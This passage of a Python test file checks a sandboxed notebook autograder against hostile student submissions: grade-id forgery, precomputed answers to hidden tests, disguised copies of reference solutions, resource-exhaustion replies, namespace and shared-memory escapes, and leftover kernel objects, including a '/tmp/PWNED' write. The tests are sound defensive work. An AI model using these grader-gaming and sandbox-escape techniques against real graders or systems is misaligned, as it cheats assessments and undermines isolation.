        SandboxExecute().preprocess(nb, {"nbgrader": {"student": "s", "notebook": SLUG}})
    finally:
        ClassRun.current = None
    grades = [determine_grade(c)[0] for c in _grade_cells(nb)]
    assert grades and all(g == 0 for g in grades)
    assert "not graded: the sandbox failed" in _grade_cells(nb)[0].outputs[0].evalue


def test_no_sandbox_no_grading_unless_the_instructor_says_so(tmp_path):
    """Without bubblewrap, bncourse says so and refuses; --without-isolation grades anyway
    (the submissions then run with the instructor's rights: here only trusted model answers)."""
    import os
    import subprocess
    import sys

    slug = "ch4_backprop"
    course = make_course(tmp_path, [slug])
    model, _ = model_and_release(course, slug)
    write_submissions(tmp_path / "incoming", slug, {"ada": model})
    env = dict(os.environ, PATH=str(Path(sys.executable).parent))  # no bwrap on the PATH
    command = [sys.executable, "-m", "bncourse.cli", "--course", str(course), "grade", slug, str(tmp_path / "incoming")]
    refused = subprocess.run(command, env=env, capture_output=True, text=True, timeout=600)
    assert refused.returncode == 3 and "Refusing to grade: bubblewrap (bwrap) is not installed" in refused.stderr
    assert not (course / "autograded").exists()
    graded = subprocess.run([*command, "--without-isolation"], env=env, capture_output=True, text=True, timeout=600)
    assert graded.returncode == 0, graded.stdout + graded.stderr
    assert "WARNING: NO ISOLATION" in graded.stderr and "Graded 1 of 1" in graded.stdout


def test_nbgraders_own_commands_still_work(tmp_path):
    """The documented fallback: plain `nbgrader autograde` and `generate_feedback` with the
    course's nbgrader_config.py (no sandbox: only trusted model answers here)."""
    from nbgrader.api import Gradebook

    from bncourse.benchmark import nbgrader

    slug = "ch4_backprop"
    course = make_course(tmp_path, [slug])
    model, release = model_and_release(course, slug)
    write_submissions(course / "submitted", slug, {"ada": model, "bob": release})
    log = nbgrader(course, "autograde", slug, "--create") + nbgrader(course, "generate_feedback", slug)
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
        ada, bob = gb.find_submission(slug, "ada"), gb.find_submission(slug, "bob")
        assert ada.code_score == ada.max_code_score > 0 and bob.code_score == 0, log
    feedback = (course / "feedback" / "ada" / slug / f"{slug}.html").read_text()
    assert "pending manual grading" in feedback and "HIDDEN TESTS" not in feedback and "hidden=True" not in feedback
    assert "checksum" not in log  # the released grade cells' hidden tests are not reported as changes


# --- the second round: forged grades, replies, resources, kernel objects --------------------------

def test_locked_metadata_on_a_students_cell_does_not_make_it_the_courses(graded):
    """Cells that say they are locked, or claim the import cell's id, run in the sandbox like
    any of the student's cells: their imports cannot rebind the checks the grade cells call."""
    assert graded.scores["forges_locked_imports"][0] == 0
    verdicts = {t["task"]: t for t in graded.results["forges_locked_imports"]["tasks"]}
    assert all(v["status"] == "failed" for v in verdicts.values()), verdicts


def test_cells_claiming_grade_ids_are_explained_not_fatal(graded):
    assert graded.scores["claims_grade_ids"] == (_full(graded), _full(graded))
    summary = graded.log.split("nbgrader's warnings")[1]
    assert graded.ids["claims_grade_ids"] in summary
    log = (graded.course / "reports" / SLUG / "grading.log").read_text()
    assert "all claim the grade id 'test_mse_gradient'" in log and "without a grade id" in log


def test_hidden_cases_cannot_be_precomputed(graded):
    """A table of answers for the hidden cases of a known secret would pass (shown here);
    the course's own secret, kept in its gradebook, draws other cases."""
    from bn_reference.grading import feature_scaling as grading, use_secret

    verdicts = {t["task"]: t for t in graded.results["precomputes_hidden_answers"]["tasks"]}
    assert verdicts["mse_gradient"]["status"] == "failed" and "hidden case" in verdicts["mse_gradient"]["message"]
    namespace = {"np": __import__("numpy")}
    exec(_answer_table(), namespace)
    with use_secret(TABLE_SECRET):
        grading.check_mse_gradient(namespace["mse_gradient"], hidden=True)


def test_an_exec_copy_claiming_a_library_file_is_still_the_reference(graded):
    verdicts = {t["task"]: t for t in graded.results["execs_copy_as_library"]["tasks"]}
    assert verdicts["mse_gradient"]["misconception"] == REFERENCE_USED, verdicts["mse_gradient"]


def test_a_copy_in_a_module_claiming_a_library_file_is_still_the_reference(graded):
    """The copy, base64-encoded (no source to find), lives in a module the notebook makes and
    registers under a library's name and file. Only the code loaded before the first notebook
    counts as the libraries', so it is fingerprinted like any other."""
    verdicts = {t["task"]: t for t in graded.results["registers_library_module"]["tasks"]}
    assert verdicts["mse_gradient"]["misconception"] == REFERENCE_USED, verdicts["mse_gradient"]


def test_a_reply_that_trickles_in_meets_the_cells_deadline(graded):
    """A reply that arrives a byte every two seconds: every read would be quick, the whole
    never arrives. The cell's deadline is for the whole reply, so the cell is stopped at its
    limit, like an endless loop, and the notebook costs no more than that."""
    result = graded.results["trickles_reply"]
    assert result["seconds"] < CELL + 20, result
    assert f"ran longer than the {CELL} s limit" in _text(graded, "trickles_reply") or "ended" in result["stopped"]


def test_a_reply_naming_one_array_many_times_is_refused_before_decoding(graded):
    """A reply whose header names one 8 MB array 200 times (1.6 GB decoded) stops that
    notebook at once: the cells before it keep their points, the class goes on."""
    kept = _points_before_the_last_check(graded, "amplifies_reply")
    assert graded.scores["amplifies_reply"][0] == kept > 0
    result = graded.results["amplifies_reply"]
    assert result["seconds"] < CELL, result
    assert "ended" in (result["stopped"] or ""), result


def test_outputs_forged_past_the_kernels_cap_are_cut_by_the_grader(graded):
    assert len(graded.feedback["forges_huge_outputs"]) < 4_000_000
    outputs = _outputs(graded.autograded["forges_huge_outputs"])
    assert "dropped by the grader" in outputs and len(outputs) < 2_500_000


def test_no_user_namespace_no_mount_inside_the_sandbox(graded):
    outputs = _outputs(graded.autograded["nests_user_namespace"])
    assert "unshare command: refused" in outputs and "unshare call: refused" in outputs
    assert "MOUNTED" not in outputs and "UNSHARED" not in outputs
    assert graded.scores["nests_user_namespace"] == (_full(graded), _full(graded))


def test_shared_memory_counts_against_the_notebooks_memory(graded):
    """Shared-memory segments filled and detached one by one escape the address-space limit;
    the sandbox's memory cgroup does not let them past the notebook's allowance."""
    kept = _points_before_the_last_check(graded, "hogs_shared_memory")
    assert graded.scores["hogs_shared_memory"][0] == kept > 0
    assert "HELD 6 GiB" not in _outputs(graded.autograded["hogs_shared_memory"])
    assert "ran out of memory" in _text(graded, "hogs_shared_memory")


def test_kernel_keyrings_are_refused(graded):
    outputs = _outputs(graded.autograded["leaves_kernel_objects"])
    assert "keyring: -1 1" in outputs  # EPERM: the seccomp filter
    assert graded.scores["leaves_kernel_objects"] == (_full(graded), _full(graded))


def test_the_isolation_report_says_what_this_machine_gives():
    import subprocess
    import sys

    proc = subprocess.run([sys.executable, "-m", "bncourse.cli", "isolation"], capture_output=True, text=True,
                          timeout=120)
    assert proc.returncode == 0, proc.stderr
    assert "seccomp filter refuses new user namespaces" in proc.stdout
    assert "memory cgroup counts every page" in proc.stdout or "NO memory cgroup" in proc.stdout


def test_kernel_objects_do_not_outlive_a_notebook_in_one_sandbox():
    """In one sandbox, one notebook after another: what the first leaves behind - System V
    shared memory, semaphores and message queues, POSIX message queues, files in /dev/shm
    and /tmp, a process - is gone when the second starts."""
    from nbgrader_cycle import require_isolation

    from bncourse.judge import NotebookGrader, Release
    from bncourse.sandbox import Limits, Sandbox

    require_isolation()
    leave = LEAVES_KERNEL_OBJECTS + "\nopen('/tmp/PWNED', 'w').write('x')\n" + DAEMON
    sandbox = Sandbox(uid=60_900, limits=Limits(cell_timeout=20, notebook_timeout=60))
    sandbox.start()
    try:
        outputs = []
        for source in (leave, CANARY):
            nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(source)])
            result = NotebookGrader(sandbox, nb, sandbox.limits, Release({}, ())).grade()
            outputs.append("".join(o.get("text", "") for o in result.outputs[0]))
    finally:
        sandbox.shutdown()
    assert "left: " in outputs[0] and "mqueue: " in outputs[0] and "-1" not in outputs[0].split("left:")[1][:20]
    canaries = [line for line in outputs[1].splitlines() if line.startswith("canary:")]
    assert len(canaries) == 3 and all(line.endswith("False") for line in canaries), outputs[1]


@pytest.mark.parametrize("kills, hits, reason", [(1, 0, "it ran out of memory"), (0, 1, "it ran out of memory"),
                                                 (0, 0, "it did not stop when interrupted")])
def test_a_notebook_stopped_at_its_memory_limit_ran_out_of_memory(kills, hits, reason):
    """Killed by the kernel for want of memory, or stopped at its time limit while its memory
    sat at the limit (on a loaded machine the kernel may keep reclaiming instead of killing):
    either way the learner reads that the notebook ran out of memory, not that it hung."""
    from bncourse.judge import NotebookGrader, Release
    from bncourse.sandbox import Limits

    class Counters:
        oom, limit = 0, 0

        def oom_kills(self):
            return self.oom

        def memory_limit_hits(self):
            return self.limit

    sandbox = Counters()
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("bytearray(2**40)")])
    grader = NotebookGrader(sandbox, nb, Limits(), Release({}, ()))
    grader.oom_kills, grader.limit_hits = sandbox.oom_kills(), sandbox.memory_limit_hits()
    sandbox.oom, sandbox.limit = kills, hits
    grader._record_death(0, {"ended": "signal", "signal": "SIGKILL"}, "it did not stop when interrupted")
    assert f"ended in cell 1: {reason}" in grader.result.stopped
